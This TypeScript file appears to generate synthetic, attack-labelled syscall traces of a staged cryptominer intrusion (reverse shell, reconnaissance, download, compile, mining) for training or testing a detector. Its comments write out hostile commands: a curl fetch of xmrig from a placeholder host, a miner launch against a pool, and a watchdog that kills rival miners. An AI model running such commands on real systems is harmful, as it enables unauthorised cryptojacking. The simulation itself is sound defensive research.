/**
 * The staged cryptominer of the SRI paper's Table 3, inside an nginx container, at the syscall level:
 *
 * 1. `shell`: an exploited worker forks (clone), duplicates the client socket onto the child's stdin/stdout/stderr
 *    (dup2 x3) and executes /bin/sh, which loads its libraries and prints a prompt on the socket;
 * 2. `commands`: the attacker types `id`, `uname -a`, `cat /etc/passwd`, `ls -la /tmp`, `cat /proc/cpuinfo`: the
 *    shell forks and executes each (dynamic loading, /etc and /proc reads, output written to the socket);
 * 3. `download`: curl resolves and connects to an external host and streams the miner's source tarball into /tmp,
 *    then fetches a build script and makes it executable (chmod +x);
 * 4. `compile`: the build script unpacks the sources under /tmp (tar with gzip: mkdir, open/create, write, fchown,
 *    utimensat), then make runs gcc per source file (CPU-bound: `compileFilesPerSecond`): gcc forks cc1plus, which searches the include path (many ENOENT
 *    openat misses), reads headers, writes an assembler file in /tmp; `as` writes the object; the temporary file is
 *    unlinked; finally collect2/ld open the libraries and objects and write the executable (fchmod +x);
 * 5. `mining`: the miner starts (execve from /tmp, /proc and /sys probes, a failing huge-page mmap, worker threads),
 *    connects to a stratum pool on :3333, then runs steadily: worker threads synchronise on futexes and yield,
 *    the network thread polls, receives jobs and submits shares; the dropper's watchdog loop (as Kinsing/TeamTNT
 *    scripts do) periodically runs pgrep for the miner and pkill for competing miners (both scan /proc) and sleeps.
 *    This stage goes on until the scenario ends.
 *
 * One-off stages are generated whole (`stage`), spread over the stage's window; steady mining comes per time slice
 * (`mine`). Every event is labelled 1 with attack class `cryptominer:<stage>`.
 */
import type { Rng } from '../../core/rng.js';
import type { SyscallEvent } from '../../ingest/events/types.js';
import { Emitter, type Proc, type Tag } from './emit.js';
import type { NginxServer } from './nginx.js';

export const MINER_STAGES = ['shell', 'commands', 'download', 'compile', 'mining'] as const;
export type MinerStage = (typeof MINER_STAGES)[number];

export interface MinerOptions {
  /** Mining worker threads. */
  threads?: number;
  /**
   * futex calls per second per worker thread while mining: lock-contended workers (a shared nonce/result mutex and
   * work-restart condition variables) wake and wait on futexes thousands of times a second.
   */
  futexPerThreadPerSecond?: number;
  /** Seconds between runs of the dropper's watchdog loop (pgrep the miner, pkill competitors, sleep). */
  watchdogSeconds?: number;
  /** Source files in the downloaded tree (what tar unpacks). */
  sourceFiles?: number;
  /**
   * Files compiled per second in the `compile` stage (CPU-bound: `make -j2` at ~4 s per C++ file), so a longer stage
   * compiles more files, at most `sourceFiles`.
   */
  compileFilesPerSecond?: number;
  /** Size of the downloaded tarball, bytes. */
  downloadBytes?: number;
}

const ATTACKER = '203.0.113.66';
const DOWNLOAD_HOST = '203.0.113.50';
const POOL = '198.51.100.23';
const DNS = '10.96.0.10';
const SRC = '/tmp/xmrig-6.21.0';
const SCRIPT = '/tmp/build.sh';
const TARBALL = '/tmp/xmrig.tar.gz';
const LIBC = '/lib/x86_64-linux-gnu/libc.so.6';

const tag = (stage: MinerStage): Tag => ({ label: 1, attackClass: `cryptominer:${stage}` });

export class StagedMiner {
  private readonly o: Required<MinerOptions>;
  private nextPid = 4711;
  private shell: Proc | null = null;
  private miner: Proc | null = null;
  private threads: Proc[] = [];
  private net: Proc | null = null;
  private watchdog: Proc | null = null;
  private nextWatchdog = 0;
  private poolPort = 0;

  constructor(
    private readonly id: Emitter['id'],
    private readonly rng: Rng,
    private readonly server: NginxServer,
    options: MinerOptions = {},
  ) {
    this.o = { threads: 4, futexPerThreadPerSecond: 2000, watchdogSeconds: 15, sourceFiles: 60, compileFilesPerSecond: 0.5, downloadBytes: 3_200_000, ...options };
  }

  /** The events of a one-off stage spread over [t0, t1) (us), in time order. Mining's are its start-up. */
  stage(stage: MinerStage, t0: number, t1: number): SyscallEvent[] {
    const em = new Emitter(this.id);
    const span = Math.max(1, t1 - t0);
    switch (stage) {
      case 'shell':
        this.spawnShell(em, t0 + 0.05 * span);
        break;
      case 'commands':
        this.commands(em, t0, span);
        break;
      case 'download':
        this.download(em, t0, span);
        break;
      case 'compile':
        this.compile(em, t0, span);
        break;
      case 'mining':
        this.startMiner(em, t0 + 0.01 * span);
        break;
    }
    return em.out.sort((a, b) => a.timeUs - b.timeUs);
  }

  private pid(): number {
    return this.nextPid++;
  }

  private gap(): number {
    return 4 + this.rng.int(60);
  }

  /** The dynamic loader of a new program: ld.so.cache and each library, mapped. Returns the time after it. */
  private load(em: Emitter, t: number, p: Proc, libs: readonly string[], tg: Tag): number {
    em.call((t += this.gap()), p, 'brk', 0, '', tg);
    em.call((t += this.gap()), p, 'access', -2, '/etc/ld.so.preload', tg);
    em.call((t += this.gap()), p, 'openat', 3, '/etc/ld.so.cache', tg);
    em.call((t += this.gap()), p, 'fstat', 0, '/etc/ld.so.cache', tg);
    em.call((t += this.gap()), p, 'mmap', 0, '/etc/ld.so.cache', tg);
    em.call((t += this.gap()), p, 'close', 0, '/etc/ld.so.cache', tg);
    for (const lib of libs) {
      em.call((t += this.gap()), p, 'openat', 3, lib, tg);
      em.call((t += this.gap()), p, 'read', 832, lib, tg);
      em.call((t += this.gap()), p, 'fstat', 0, lib, tg);
      em.call((t += this.gap()), p, 'mmap', 0, lib, tg);
      em.call((t += this.gap()), p, 'mmap', 0, lib, tg);
      em.call((t += this.gap()), p, 'close', 0, lib, tg);
    }
    em.call((t += this.gap()), p, 'arch_prctl', 0, '', tg);
    em.call((t += this.gap()), p, 'set_tid_address', p.tid, '', tg);
    em.call((t += this.gap()), p, 'mprotect', 0, '', tg);
    em.call((t += this.gap()), p, 'rt_sigaction', 0, '', tg);
    return t;
  }

  /** parent clone + child execve; returns the child. */
  private spawn(em: Emitter, t: number, parent: Proc, name: string, exe: string, tg: Tag): Proc {
    const pid = this.pid();
    em.call(t, parent, 'clone', pid, '', tg);
    const child: Proc = { name, exe, parent: parent.name, pid, tid: pid };
    em.call(t + 40 + this.rng.int(200), child, 'execve', 0, exe, tg);
    return child;
  }

  private exit(em: Emitter, t: number, p: Proc, parent: Proc | null, tg: Tag): number {
    em.call((t += this.gap()), p, 'exit_group', 0, '', tg);
    if (parent) em.call((t += 30 + this.rng.int(100)), parent, 'wait4', p.pid, '', tg);
    return t;
  }

  private spawnShell(em: Emitter, t: number): void {
    const tg = tag('shell');
    const worker = this.server.workers[0].proc;
    const port = 40000 + this.rng.int(20000);
    const pid = this.pid();
    em.call((t += this.gap()), worker, 'clone', pid, '', tg);
    const child: Proc = { name: 'nginx', exe: '/usr/sbin/nginx', parent: 'nginx', pid, tid: pid };
    for (let fd = 0; fd < 3; fd++) em.net((t += this.gap()), child, 'dup2', fd, ATTACKER, port, this.id.podIp, 80, tg);
    const sh: Proc = { name: 'sh', exe: '/bin/sh', parent: 'nginx', pid, tid: pid };
    em.call((t += this.gap()), sh, 'execve', 0, '/bin/sh', tg);
    t = this.load(em, t, sh, [LIBC], tg);
    em.call((t += this.gap()), sh, 'getuid', 101, '', tg);
    em.call((t += this.gap()), sh, 'getpid', pid, '', tg);
    em.call((t += this.gap()), sh, 'ioctl', -25, '', tg); // TCGETS on a socket: ENOTTY
    em.call((t += this.gap()), sh, 'write', 48, '', tg); // "sh: 0: can't access tty; job control turned off"
    em.call((t += this.gap()), sh, 'write', 2, '', tg); // "$ "
    em.call(t + this.gap(), sh, 'read', -11, '', tg);
    this.shell = sh;
  }

  private ensureShell(em: Emitter, t: number): Proc {
    if (!this.shell) this.spawnShell(em, t);
    return this.shell as Proc;
  }

  private commands(em: Emitter, t0: number, span: number): void {
    const tg = tag('commands');
    const sh = this.ensureShell(em, t0);
    const cmds: [string, string, (p: Proc, t: number) => number][] = [
      ['id', '/usr/bin/id', (p, t) => {
        for (const f of ['/etc/nsswitch.conf', '/etc/passwd', '/etc/group']) t = this.readFile(em, t, p, f, 1, tg);
        return t;
      }],
      ['uname', '/bin/uname', (p, t) => {
        em.call((t += this.gap()), p, 'uname', 0, '', tg);
        return t;
      }],
      ['cat', '/bin/cat', (p, t) => this.readFile(em, t, p, '/etc/passwd', 2, tg)],
      ['ls', '/bin/ls', (p, t) => {
        em.call((t += this.gap()), p, 'openat', 3, '/tmp', tg);
        em.call((t += this.gap()), p, 'getdents64', 312, '/tmp', tg);
        for (const f of ['.', '..', '.X11-unix', 'nginx-cache']) em.call((t += this.gap()), p, 'newfstatat', 0, `/tmp/${f}`, tg);
        em.call((t += this.gap()), p, 'getdents64', 0, '/tmp', tg);
        em.call((t += this.gap()), p, 'close', 0, '/tmp', tg);
        t = this.readFile(em, t, p, '/etc/passwd', 1, tg);
        return this.readFile(em, t, p, '/etc/group', 1, tg);
      }],
      ['cat', '/bin/cat', (p, t) => this.readFile(em, t, p, '/proc/cpuinfo', 6, tg)],
    ];
    cmds.forEach(([name, exe, body], i) => {
      let t = t0 + ((i + 0.5) / cmds.length) * span * 0.9;
      em.call(t, sh, 'read', 4 + name.length, '', tg);
      const p = this.spawn(em, (t += this.gap()), sh, name, exe, tg);
      t = this.load(em, t + 300, p, name === 'ls' ? [LIBC, '/lib/x86_64-linux-gnu/libselinux.so.1', '/lib/x86_64-linux-gnu/libpcre2-8.so.0'] : [LIBC], tg);
      t = body(p, t);
      em.call((t += this.gap()), p, 'write', 80 + this.rng.int(900), '', tg);
      t = this.exit(em, t, p, sh, tg);
      em.call(t + this.gap(), sh, 'write', 2, '', tg);
    });
  }

  /** openat + fstat + `reads` reads + close of a file. */
  private readFile(em: Emitter, t: number, p: Proc, path: string, reads: number, tg: Tag): number {
    em.call((t += this.gap()), p, 'openat', 3, path, tg);
    em.call((t += this.gap()), p, 'fstat', 0, path, tg);
    for (let i = 0; i < reads; i++) em.call((t += this.gap()), p, 'read', 4096, path, tg);
    em.call((t += this.gap()), p, 'read', 0, path, tg);
    em.call((t += this.gap()), p, 'close', 0, path, tg);
    return t;
  }

  private download(em: Emitter, t0: number, span: number): void {
    const tg = tag('download');
    const sh = this.ensureShell(em, t0);
    let t = t0 + 0.02 * span;
    em.call(t, sh, 'read', 64, '', tg);
    // curl -sL http://203.0.113.50/xmrig-6.21.0.tar.gz -o /tmp/xmrig.tar.gz
    const curl = this.spawn(em, (t += this.gap()), sh, 'curl', '/usr/bin/curl', tg);
    const libs = ['libcurl.so.4', 'libz.so.1', 'libssl.so.3', 'libcrypto.so.3', 'libnghttp2.so.14', 'libpsl.so.5', 'libbrotlidec.so.1'];
    t = this.load(em, t + 300, curl, [...libs.map((l) => `/usr/lib/x86_64-linux-gnu/${l}`), LIBC], tg);
    t = this.readFile(em, t, curl, '/etc/resolv.conf', 1, tg);
    t = this.readFile(em, t, curl, '/etc/hosts', 1, tg);
    const dport = 30000 + this.rng.int(30000);
    em.call((t += this.gap()), curl, 'socket', 5, '', tg);
    em.net((t += this.gap()), curl, 'connect', 0, this.id.podIp, dport, DNS, 53, tg);
    em.net((t += this.gap()), curl, 'sendto', 52, this.id.podIp, dport, DNS, 53, tg);
    em.net((t += 800), curl, 'recvfrom', 84, this.id.podIp, dport, DNS, 53, tg);
    em.call((t += this.gap()), curl, 'close', 0, '', tg);
    const sport = 40000 + this.rng.int(20000);
    em.call((t += this.gap()), curl, 'socket', 5, '', tg);
    em.net((t += this.gap()), curl, 'connect', -115, this.id.podIp, sport, DOWNLOAD_HOST, 80, tg); // EINPROGRESS
    em.call((t += 20_000), curl, 'poll', 1, '', tg);
    em.net((t += this.gap()), curl, 'sendto', 118, this.id.podIp, sport, DOWNLOAD_HOST, 80, tg);
    const out = TARBALL;
    em.call((t += this.gap()), curl, 'openat', 6, out, tg);
    const chunks = Math.ceil(this.o.downloadBytes / 16384);
    const per = (0.35 * span) / chunks;
    for (let i = 0; i < chunks; i++) {
      em.call((t += per * (0.5 + this.rng.next())), curl, 'poll', 1, '', tg);
      em.net((t += this.gap()), curl, 'recvfrom', 16384, this.id.podIp, sport, DOWNLOAD_HOST, 80, tg);
      em.call((t += this.gap()), curl, 'write', 16384, out, tg);
    }
    em.call((t += this.gap()), curl, 'close', 0, out, tg);
    t = this.exit(em, t, curl, sh, tg);
    // chmod +x /tmp/build.sh (fetched the same way, one small file)
    t = Math.max(t, t0 + 0.6 * span);
    em.call(t, sh, 'read', 40, '', tg);
    const curl2 = this.spawn(em, (t += this.gap()), sh, 'curl', '/usr/bin/curl', tg);
    t = this.load(em, t + 300, curl2, [...libs.map((l) => `/usr/lib/x86_64-linux-gnu/${l}`), LIBC], tg);
    em.call((t += this.gap()), curl2, 'socket', 5, '', tg);
    em.net((t += this.gap()), curl2, 'connect', -115, this.id.podIp, sport + 1, DOWNLOAD_HOST, 80, tg);
    em.net((t += 20_000), curl2, 'sendto', 104, this.id.podIp, sport + 1, DOWNLOAD_HOST, 80, tg);
    em.call((t += this.gap()), curl2, 'openat', 6, SCRIPT, tg);
    em.net((t += 30_000), curl2, 'recvfrom', 2210, this.id.podIp, sport + 1, DOWNLOAD_HOST, 80, tg);
    em.call((t += this.gap()), curl2, 'write', 2210, SCRIPT, tg);
    em.call((t += this.gap()), curl2, 'close', 0, SCRIPT, tg);
    t = this.exit(em, t, curl2, sh, tg);
    em.call((t += 2000), sh, 'read', 22, '', tg);
    const chmod = this.spawn(em, (t += this.gap()), sh, 'chmod', '/bin/chmod', tg);
    t = this.load(em, t + 300, chmod, [LIBC], tg);
    em.call((t += this.gap()), chmod, 'newfstatat', 0, SCRIPT, tg);
    em.call((t += this.gap()), chmod, 'fchmodat', 0, SCRIPT, tg);
    this.exit(em, t, chmod, sh, tg);
  }

  private compile(em: Emitter, t0: number, span: number): void {
    const tg = tag('compile');
    const shell = this.ensureShell(em, t0);
    let t = t0 + 0.01 * span;
    em.call(t, shell, 'read', 16, '', tg);
    // sh /tmp/build.sh: unpack the sources, then make
    const sh = this.spawn(em, (t += this.gap()), shell, 'sh', '/bin/sh', tg);
    t = this.load(em, t + 300, sh, [LIBC], tg);
    t = this.readFile(em, t, sh, SCRIPT, 1, tg);
    // tar xzf /tmp/xmrig.tar.gz -C /tmp (tar forks gzip -d)
    const tar = this.spawn(em, (t += this.gap()), sh, 'tar', '/bin/tar', tg);
    t = this.load(em, t + 300, tar, ['/lib/x86_64-linux-gnu/libacl.so.1', '/lib/x86_64-linux-gnu/libselinux.so.1', LIBC], tg);
    em.call((t += this.gap()), tar, 'pipe2', 0, '', tg);
    const gz = this.spawn(em, (t += this.gap()), tar, 'gzip', '/bin/gzip', tg);
    t = this.load(em, t + 300, gz, [LIBC], tg);
    em.call((t += this.gap()), gz, 'openat', 0, TARBALL, tg);
    const files = 24 + 5 * this.o.sourceFiles;
    const dirs = 18;
    const step = (0.1 * span) / (files + dirs);
    for (let d = 0; d < dirs; d++) em.call((t += step), tar, 'mkdirat', d === 0 ? -17 : 0, `${SRC}/${d === 0 ? '' : `src/d${d}`}`, tg);
    for (let i = 0; i < files; i++) {
      const path = `${SRC}/src/d${1 + (i % (dirs - 1))}/f${i}.${i % 3 === 0 ? 'h' : 'cpp'}`;
      em.call((t += step), tar, 'read', 10240, '', tg);
      em.call((t += this.gap()), tar, 'openat', 4, path, tg);
      em.call((t += this.gap()), tar, 'write', 2048 + this.rng.int(12000), path, tg);
      em.call((t += this.gap()), tar, 'fchown', 0, path, tg);
      em.call((t += this.gap()), tar, 'utimensat', 0, path, tg);
      em.call((t += this.gap()), tar, 'close', 0, path, tg);
      if (i % 8 === 0) em.call((t += this.gap()), gz, 'write', 65536, '', tg);
    }
    t = this.exit(em, t, gz, tar, tg);
    t = this.exit(em, t, tar, sh, tg);
    t = Math.max(t, t0 + 0.12 * span);
    const make = this.spawn(em, (t += this.gap()), sh, 'make', '/usr/bin/make', tg);
    this.load(em, t + 300, make, [LIBC], tg);
    const n = Math.max(1, Math.min(this.o.sourceFiles, Math.round((this.o.compileFilesPerSecond * span) / 1e6)));
    const per = (0.78 * span) / (n + 1);
    // the include search path: quoted project includes first (under /tmp), then the system directories
    const projectDirs = [`${SRC}/src`, `${SRC}/src/3rdparty`, `${SRC}/src/backend/cpu`];
    const systemDirs = [
      '/usr/include/c++/12',
      '/usr/include/x86_64-linux-gnu/c++/12',
      '/usr/include/c++/12/backward',
      '/usr/lib/gcc/x86_64-linux-gnu/12/include',
      '/usr/local/include',
      '/usr/include/x86_64-linux-gnu',
      '/usr/include',
    ];
    const header = (cc1: Proc, ft: number, dirs: readonly string[], name: string): number => {
      const hit = this.rng.int(dirs.length);
      for (let d = 0; d < hit; d++) em.call((ft += this.gap()), cc1, 'openat', -2, `${dirs[d]}/${name}`, tg);
      const path = `${dirs[hit]}/${name}`;
      em.call((ft += this.gap()), cc1, 'openat', 4, path, tg);
      em.call((ft += this.gap()), cc1, 'read', 8192, path, tg);
      em.call((ft += this.gap()), cc1, 'read', 0, path, tg);
      em.call((ft += this.gap()), cc1, 'close', 0, path, tg);
      return ft;
    };
    for (let i = 0; i < n; i++) {
      let ft = t0 + 0.14 * span + i * per;
      const src = `${SRC}/src/d${1 + (i % 17)}/f${i}.cpp`;
      em.call(ft, make, 'newfstatat', -2, `${SRC}/build/f${i}.o`, tg);
      em.call((ft += this.gap()), make, 'newfstatat', 0, src, tg);
      const gcc = this.spawn(em, (ft += this.gap()), make, 'c++', '/usr/bin/c++', tg);
      ft = this.load(em, ft + 300, gcc, [LIBC], tg);
      const cc1 = this.spawn(em, (ft += this.gap()), gcc, 'cc1plus', '/usr/lib/gcc/x86_64-linux-gnu/12/cc1plus', tg);
      ft = this.load(em, ft + 300, cc1, ['/lib/x86_64-linux-gnu/libisl.so.23', '/lib/x86_64-linux-gnu/libmpc.so.3', '/lib/x86_64-linux-gnu/libmpfr.so.6', '/lib/x86_64-linux-gnu/libgmp.so.10', '/lib/x86_64-linux-gnu/libzstd.so.1', LIBC], tg);
      ft = this.readFile(em, ft, cc1, src, 2, tg);
      const project = 20 + this.rng.int(40);
      const system = 200 + this.rng.int(150);
      for (let h = 0; h < project + system; h++) {
        ft = h < project ? header(cc1, ft, projectDirs, `h${h}.h`) : header(cc1, ft, systemDirs, `h${h}`);
        if (h % 4 === 0) em.call((ft += this.gap()), cc1, h % 8 === 0 ? 'mmap' : 'brk', 0, '', tg); // the compiler's heap grows
      }
      const asm = `/tmp/cc${(i * 7919).toString(36)}.s`;
      em.call((ft += this.gap()), cc1, 'openat', 5, asm, tg);
      for (let w = 0; w < 6; w++) em.call((ft += this.gap()), cc1, 'write', 4096, asm, tg);
      em.call((ft += this.gap()), cc1, 'close', 0, asm, tg);
      ft = this.exit(em, ft, cc1, gcc, tg);
      const as = this.spawn(em, (ft += this.gap()), gcc, 'as', '/usr/bin/as', tg);
      ft = this.load(em, ft + 300, as, ['/lib/x86_64-linux-gnu/libopcodes-2.40-system.so', '/lib/x86_64-linux-gnu/libbfd-2.40-system.so', LIBC], tg);
      ft = this.readFile(em, ft, as, asm, 6, tg);
      const obj = `${SRC}/build/f${i}.o`;
      em.call((ft += this.gap()), as, 'openat', 3, obj, tg);
      for (let w = 0; w < 4; w++) em.call((ft += this.gap()), as, 'write', 4096, obj, tg);
      em.call((ft += this.gap()), as, 'close', 0, obj, tg);
      ft = this.exit(em, ft, as, gcc, tg);
      em.call((ft += this.gap()), gcc, 'unlink', 0, asm, tg);
      this.exit(em, ft, gcc, make, tg);
    }
    // link
    t = t0 + 0.93 * span;
    const gcc = this.spawn(em, t, make, 'c++', '/usr/bin/c++', tg);
    t = this.load(em, t + 300, gcc, [LIBC], tg);
    const ld = this.spawn(em, (t += this.gap()), gcc, 'ld', '/usr/bin/ld', tg);
    t = this.load(em, t + 300, ld, ['/lib/x86_64-linux-gnu/libbfd-2.40-system.so', '/lib/x86_64-linux-gnu/libctf.so.0', LIBC], tg);
    for (let i = 0; i < n; i++) t = this.readFile(em, t, ld, `${SRC}/build/f${i}.o`, 2, tg);
    for (const lib of ['libstdc++.so.6', 'libm.so.6', 'libgcc_s.so.1', 'libuv.so.1', 'libssl.so.3', 'libcrypto.so.3', 'libhwloc.so.15']) {
      t = this.readFile(em, t, ld, `/usr/lib/x86_64-linux-gnu/${lib}`, 1, tg);
    }
    const bin = `${SRC}/build/xmrig`;
    em.call((t += this.gap()), ld, 'openat', 5, bin, tg);
    for (let w = 0; w < 40; w++) em.call((t += this.gap()), ld, 'write', 65536, bin, tg);
    em.call((t += this.gap()), ld, 'fchmod', 0, bin, tg);
    em.call((t += this.gap()), ld, 'close', 0, bin, tg);
    t = this.exit(em, t, ld, gcc, tg);
    t = this.exit(em, t, gcc, make, tg);
    t = this.exit(em, t, make, sh, tg);
    this.exit(em, t, sh, shell, tg);
  }

  private startMiner(em: Emitter, t: number): void {
    const tg = tag('mining');
    const sh = this.ensureShell(em, t);
    em.call(t, sh, 'read', 60, '', tg);
    // nohup ./xmrig -o 198.51.100.23:3333 -u <wallet> --threads 4 &
    const xm = this.spawn(em, (t += this.gap()), sh, 'xmrig', `${SRC}/build/xmrig`, tg);
    t = this.load(em, t + 300, xm, ['libuv.so.1', 'libssl.so.3', 'libcrypto.so.3', 'libhwloc.so.15', 'libstdc++.so.6', 'libm.so.6', 'libgcc_s.so.1'].map((l) => `/usr/lib/x86_64-linux-gnu/${l}`).concat(LIBC), tg);
    t = this.readFile(em, t, xm, '/proc/cpuinfo', 6, tg);
    t = this.readFile(em, t, xm, '/proc/meminfo', 1, tg);
    for (let c = 0; c < 4; c++) t = this.readFile(em, t, xm, `/sys/devices/system/cpu/cpu${c}/cache/index3/size`, 1, tg);
    em.call((t += this.gap()), xm, 'sched_getaffinity', 8, '', tg);
    em.call((t += this.gap()), xm, 'mmap', -12, '', tg); // MAP_HUGETLB without huge pages: ENOMEM
    em.call((t += this.gap()), xm, 'mmap', 0, '', tg);
    em.call((t += this.gap()), xm, 'setpriority', 0, '', tg);
    this.threads = [];
    for (let i = 0; i < this.o.threads + 1; i++) {
      const tid = this.pid();
      em.call((t += this.gap()), xm, 'clone', tid, '', tg);
      const th: Proc = { name: 'xmrig', exe: xm.exe, parent: 'sh', pid: xm.pid, tid };
      if (i === 0) this.net = th;
      else this.threads.push(th);
    }
    const net = this.net as Proc;
    this.poolPort = 40000 + this.rng.int(20000);
    em.call((t += this.gap()), net, 'socket', 7, '', tg);
    em.net((t += this.gap()), net, 'connect', -115, this.id.podIp, this.poolPort, POOL, 3333, tg); // EINPROGRESS
    em.call((t += 30_000), net, 'epoll_wait', 1, '', tg);
    em.net((t += this.gap()), net, 'sendto', 412, this.id.podIp, this.poolPort, POOL, 3333, tg); // login
    em.net((t += 40_000), net, 'recvfrom', 640, this.id.podIp, this.poolPort, POOL, 3333, tg); // first job
    this.miner = xm;
    // nohup sh -c 'while :; do pgrep -f xmrig || ./xmrig ...; pkill -f "kinsing|kdevtmpfsi"; sleep 15; done' &
    this.watchdog = this.spawn(em, (t += 2000), sh, 'sh', '/bin/sh', tg);
    this.load(em, t + 300, this.watchdog, [LIBC], tg);
    this.nextWatchdog = t + 1e6;
  }

  /** One watchdog round: pgrep and pkill (each scans /proc), then sleep. */
  private watchdogRound(em: Emitter, t: number, tg: Tag): void {
    const sh = this.watchdog as Proc;
    const pids = [1, 29, 30, 4711, this.miner?.pid ?? 4712, sh.pid];
    for (const [name, exe] of [
      ['pgrep', '/usr/bin/pgrep'],
      ['pkill', '/usr/bin/pkill'],
    ]) {
      const p = this.spawn(em, (t += this.gap()), sh, name, exe, tg);
      t = this.load(em, t + 300, p, ['/lib/x86_64-linux-gnu/libproc2.so.0', '/lib/x86_64-linux-gnu/libsystemd.so.0', LIBC], tg);
      em.call((t += this.gap()), p, 'openat', 3, '/proc', tg);
      em.call((t += this.gap()), p, 'getdents64', 1024, '/proc', tg);
      for (const pid of pids) {
        for (const f of ['stat', 'status', 'cmdline']) {
          const path = `/proc/${pid}/${f}`;
          em.call((t += this.gap()), p, 'openat', 4, path, tg);
          em.call((t += this.gap()), p, 'read', 300, path, tg);
          em.call((t += this.gap()), p, 'close', 0, path, tg);
        }
      }
      em.call((t += this.gap()), p, 'getdents64', 0, '/proc', tg);
      em.call((t += this.gap()), p, 'close', 0, '/proc', tg);
      if (name === 'pgrep') em.call((t += this.gap()), p, 'write', 5, '', tg);
      t = this.exit(em, t, p, sh, tg);
    }
    const sleep = this.spawn(em, (t += this.gap()), sh, 'sleep', '/bin/sleep', tg);
    t = this.load(em, t + 300, sleep, [LIBC], tg);
    em.call(t + this.gap(), sleep, 'clock_nanosleep', 0, '', tg);
  }

  /** Steady mining in [t0, t1): futex/sched_yield of the worker threads, jobs and shares on the pool connection. */
  mine(em: Emitter, t0: number, t1: number): void {
    if (!this.miner || !this.net) return;
    const tg = tag('mining');
    const rng = this.rng;
    const seconds = (t1 - t0) / 1e6;
    for (const th of this.threads) {
      const n = Math.round(this.o.futexPerThreadPerSecond * seconds * (0.9 + 0.2 * rng.next()));
      for (let i = 0; i < n; i++) {
        const t = t0 + rng.next() * (t1 - t0);
        em.call(t, th, 'futex', i % 2, '', tg);
        if (i % 16 === 0) em.call(t + 5, th, 'sched_yield', 0, '', tg);
      }
    }
    for (; this.nextWatchdog < t1; this.nextWatchdog += this.o.watchdogSeconds * 1e6) {
      if (this.nextWatchdog >= t0) this.watchdogRound(em, this.nextWatchdog, tg);
    }
    const net = this.net;
    // a new job every ~20 s, a share submitted every ~4 s (pool difficulty), epoll_wait around each
    const perSecondShares = 0.25;
    const perSecondJobs = 0.05;
    for (const [rate, call, bytes] of [
      [perSecondShares, 'sendto', 180],
      [perSecondJobs, 'recvfrom', 640],
    ] as const) {
      let t = t0 - Math.log(1 - rng.next()) * (1e6 / rate);
      while (t < t1) {
        em.call(t, net, 'epoll_wait', 1, '', tg);
        em.net(t + 20, net, call, bytes, this.id.podIp, this.poolPort, POOL, 3333, tg);
        t += -Math.log(1 - rng.next()) * (1e6 / rate);
      }
    }
  }
}
